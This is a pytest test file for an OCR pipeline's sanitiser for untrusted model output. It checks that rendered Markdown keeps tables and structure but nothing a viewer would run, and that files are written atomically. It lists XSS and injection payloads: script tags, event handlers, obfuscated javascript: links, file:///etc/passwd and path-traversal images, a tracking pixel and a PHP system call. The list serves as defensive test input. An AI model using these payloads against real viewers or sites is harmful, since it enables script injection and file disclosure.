"""Model output is untrusted (ocrd/outputs/modeltext.py): text no file should hold becomes U+FFFD
where it enters the pipeline, and the outbox's Markdown keeps the page's structure and
tables but nothing a viewer would run or follow — checked by rendering it as a Markdown
viewer that renders HTML does (markdown-it with raw HTML on, no sanitiser) and looking
at the HTML that comes out. The pipeline does this work off the event loop, and writes
a document's .json and .md both or neither."""

from __future__ import annotations

import asyncio
import html
import html.parser
import os
import random
import threading
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from helpers import make_pdf
from markdown_it import MarkdownIt

from ocrd import safefs
from ocrd.config.settings import Config
from ocrd.engines.base import Engine, PageRequest
from ocrd.outputs import destinations, modeltext
from ocrd.outputs.markdown import PageMarkdown
from ocrd.outputs.modeltext import clean, inert_markdown
from ocrd.outputs.page import PageOutput
from ocrd.pipeline.document import Converter
from ocrd.pipeline.schedule import FairSlots
from ocrd.pipeline.source import Source
from ocrd.render.pool import RenderPool
from ocrd.web import render

# A viewer that renders HTML and follows any link (markdown-it's own link check off)
VIEWER = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
VIEWER.validateLink = lambda url: True


class Active(html.parser.HTMLParser):
    """What a browser would run, load or follow in rendered HTML: scripts and their kin,
    event handlers and styles, links other than http(s)/mailto and relative paths,
    images from anywhere but a relative path inside the folder."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "iframe", "object", "embed", "svg", "math", "base",
                   "form", "meta", "link"):
            self.found.append(tag)
        for name, value in attrs:
            url = unquote(html.unescape(value or "")).strip().lower().replace("\\", "/")
            first = url.split("/", 1)[0]
            scheme = first.split(":", 1)[0] if ":" in first else ""
            if name.startswith("on") or name in ("style", "srcset", "formaction"):
                self.found.append(f"{tag} {name}")
            elif name == "href" and scheme not in ("", "http", "https", "mailto"):
                self.found.append(f"{tag} href={value}")
            elif name == "src" and (scheme or url.startswith("/") or
                                    ".." in url.split("?")[0].split("/")):
                self.found.append(f"{tag} src={value}")


def active(markdown: str) -> list[str]:
    parser = Active()
    parser.feed(VIEWER.render(markdown))
    return parser.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="file:///etc/passwd"></iframe>',
    "<style>body{display:none}</style>",
    '<table><tr><td colspan="2" onclick="alert(1)" style="x">a</td></tr></table>',
    '<td title="a>b" onmouseover=alert(1)>',
    "<b$x onmouseover=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click]( \n javascript:alert(1))",
    "[click](javascript\\:alert(1))",
    "[f](file:///etc/shadow)",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "[v](vbscript:msgbox(1))",
    "![](../../../../etc/passwd)",
    "![](/etc/passwd)",
    "![](%2e%2e/%2e%2e/etc/passwd)",
    "![](..\\..\\etc\\passwd)",
    "![x](https://tracker.example/pixel.png)",
    "![x](//tracker.example/pixel.png)",
    "![](a((b))/../../x)",
    "[![img](ok.png)](javascript:alert(1))",
    "[r]: javascript:alert(1)\n\n[x][r]",
    "[r]:\n  file:///etc/passwd\n\n![r]",
    "<javascript:alert(1)>",
    "<!-- page 7 -->",
    "<![CDATA[x]]>",
    "<?php system('id'); ?>",
    "\\<script>alert(1)</script>",
    "<table>\\<script>alert(1)</script></table>",
]


# Hostile to other renderers (an HTML5 parser reads "<img/src=x/onerror=...>" and
# "<b$x onmouseover=...>" as tags, Python-Markdown passes the latter through, comments
# could fake ocrd's page marks) but not acted on by markdown-it's CommonMark.
NOT_ACTIVE_IN_COMMONMARK = {3, 10, 24, 32, 33, 34, 35}


def test_the_probe_finds_what_a_viewer_would_act_on() -> None:
    for i, text in enumerate(HOSTILE):
        assert bool(active(text)) is (i not in NOT_ACTIVE_IN_COMMONMARK), text


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_is_left(text: str) -> None:
    assert active(inert_markdown(text)) == []


def test_random_mixes_of_hostile_pieces_stay_inert() -> None:
    rnd = random.Random(11)
    glue = ["", " ", "\n", "\n\n", "|", "`", "[", "]", "(", ")", "<", ">", "!", "\\", "*"]
    for _ in range(400):
        text = "".join(rnd.choice(HOSTILE) + rnd.choice(glue) for _ in range(5))
        assert active(inert_markdown(text)) == [], repr(text)


def test_structure_and_tables_are_kept() -> None:
    page = ("# Invoice 42\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            '<table><tr><th rowspan="2">x</th><td>y<br/>z</td></tr></table>\n\n'
            "Total ......... 12\n\n$a < b$ and [a link](https://example.com/x_(y)) and "
            "![](report.assets/p0001-1.png) and [mail](mailto:a@b.c) and [rel](other.md#s)")
    out = inert_markdown(page)
    assert out.startswith("# Invoice 42\n\n- one\n- two\n\n| a | b |")
    assert '<table><tr><th rowspan="2">x</th><td>y<br>z</td></tr></table>' in out
    assert "[a link](https://example.com/x_(y))" in out
    assert "![](report.assets/p0001-1.png)" in out and "[mail](mailto:a@b.c)" in out
    assert "[rel](other.md#s)" in out and "$a < b$" in out
    rendered = VIEWER.render(out)
    assert '<img src="report.assets/p0001-1.png"' in rendered and "<table>" in rendered


def test_what_is_broken_still_reads_as_it_was_written() -> None:
    """Broken links and escaped tags show the same characters (inert text)."""
    out = inert_markdown("<script>x</script> [a](javascript:y) [r]: file:///z")
    assert out == "&lt;script>x&lt;/script> [a]&#40;javascript:y) [r]&#58; file:///z"
    shown = VIEWER.render(out)
    assert "&lt;script&gt;x&lt;/script&gt; [a](javascript:y) [r]: file:///z" in shown


def test_clean_replaces_what_no_file_should_hold() -> None:
    assert clean("a\ud800b\udfffc\x00d\x1b[2Je\x7ff\x85g") == (
        "a\ufffdb\ufffdc\ufffdd\ufffd[2Je\ufffdf\ufffdg")
    kept = "tab\there\nline\r\nff\fvt\v ok 漢字 😀"
    assert clean(kept) == kept
    clean("x\ud800" * 1000).encode("utf-8")  # always encodes


def test_the_console_shows_with_the_same_allowlist() -> None:
    assert render.TAGS is modeltext.TAGS and render.ATTRIBUTES is modeltext.ATTRIBUTES
    assert render.URL_SCHEMES is modeltext.URL_SCHEMES and render.RAW_TAGS is modeltext.RAW_TAGS
    shown = render.to_html(inert_markdown('<table><tr><td colspan="2">a</td></tr></table>'))
    assert '<td colspan="2">a</td>' in shown


# ---- in the pipeline --------------------------------------------------------------------


class HostileTextEngine(Engine):
    """A plain-text engine whose every page reads as text no file should hold; it notes
    the thread its text is turned into Markdown on."""

    kind = "hostile-test"
    model = "none"
    output_format = "text"
    max_concurrency = 2

    def __init__(self) -> None:
        self.threads: list[threading.Thread] = []

    async def ocr(self, page: PageRequest) -> PageOutput:
        return PageOutput(text="Due\ud800 now\x00 <script>alert(1)</script>",
                          finish_reason="--> <script>")

    def page_markdown(self, text: str, image: Any, page_no: int,
                      assets_link: str) -> PageMarkdown:
        self.threads.append(threading.current_thread())
        return super().page_markdown(text, image, page_no, assets_link)


def convert(tmp_path: Path, engine: Engine) -> Path:
    cfg = Config.model_validate({"state_dir": str(tmp_path / "state"),
                                 "render": {"workers": 1}})
    pdf = make_pdf(tmp_path / "doc.pdf", [["one"], ["two"]])
    out = tmp_path / "out"

    async def run() -> None:
        pool = RenderPool(1)
        converter = Converter(cfg, engine, pool, FairSlots(2))
        fd = os.open(pdf, os.O_RDONLY)
        try:
            with safefs.Dir.open_root(out, create=True) as folder:
                await converter.convert(Source(fd, "doc.pdf"), folder, destinations.Perms())
        finally:
            os.close(fd)
            await pool.close()

    asyncio.run(run())
    return out


def test_the_pipeline_cleans_the_text_once_and_off_the_event_loop(tmp_path: Path) -> None:
    """A lone surrogate no longer fails the document (nor leaves its .json alone): the
    text is cleaned where it enters, made Markdown in a thread, and written whole."""
    engine = HostileTextEngine()
    out = convert(tmp_path, engine)
    text = (out / "doc.md").read_text(encoding="utf-8")
    assert text.count("Due\ufffd now\ufffd &lt;script>alert(1)&lt;/script>") == 2
    assert (out / "doc.json").exists()
    assert len(engine.threads) == 2
    assert all(t is not threading.main_thread() for t in engine.threads)


def test_outputs_are_written_all_or_none(tmp_path: Path) -> None:
    """When the second of a document's files cannot be written, the first is taken back:
    never a .json without its .md."""
    folder_path = tmp_path / "out"
    folder_path.mkdir()
    with safefs.Dir.open_root(folder_path) as folder:
        with pytest.raises(OSError):
            destinations.write_atomic_all(folder, [("doc.json", b"{}"), ("x" * 300 + ".md", b"")],
                                    destinations.Perms())
        destinations.write_atomic_all(folder, [("doc.json", b"{}"), ("doc.md", b"# ok\n")],
                                destinations.Perms())
    assert sorted(os.listdir(folder_path)) == ["doc.json", "doc.md"]
